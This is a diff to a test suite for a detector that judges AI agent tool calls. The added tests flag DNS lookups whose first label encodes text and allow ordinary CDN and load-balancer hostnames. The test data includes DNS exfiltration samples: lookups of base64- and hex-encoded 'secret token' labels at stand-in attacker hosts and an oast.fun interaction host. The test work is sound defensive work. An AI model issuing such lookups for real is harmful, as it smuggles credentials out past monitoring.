@@ -115,9 +115,17 @@ describe('tool poison: chat bot APIs and bare interaction hosts', () => {
     expect(judge('dns_lookup', { hostname: 'mfrggzdfmztwq2lk.x9.oast.fun' }).risk).toBeGreaterThanOrEqual(80);
   });
 
+  it('reviews a DNS name of any host whose first label decodes to text', () => {
+    expect(judge('dns_lookup', { hostname: 'c2VjcmV0LXRva2Vu.attacker-dns.example' }).decision).toBe('review');
+    expect(judge('dns_lookup', { hostname: '736563726574746f6b656e.x.example' }).decision).toBe('review');
+  });
+
   it.each([
     ['a Slack webhook with a plain message', 'http_post', { url: 'https://hooks.slack.com/services/T0/B0/X', body: 'deploy done' }],
     ['a DNS lookup of an ordinary host', 'dns_lookup', { hostname: 'api.github.com' }],
+    ['a DNS lookup of a CDN host', 'dns_lookup', { hostname: 'd1a2b3c4d5e6f7.cloudfront.net' }],
+    ['a DNS lookup of a load balancer', 'dns_lookup', { hostname: 'k8s-default-ingressng-1a2b3c4d5e-1234567890.us-west-2.elb.amazonaws.com' }],
+    ['a DNS lookup of a long ordinary name', 'dns_lookup', { hostname: 'documentation.example.com' }],
     ['the Discord home page', 'http_get', { url: 'https://discord.com/channels/123' }],
   ])('allows %s', (_label, tool, args) => {
     expect(judge(tool, args).decision).toBe('allow');
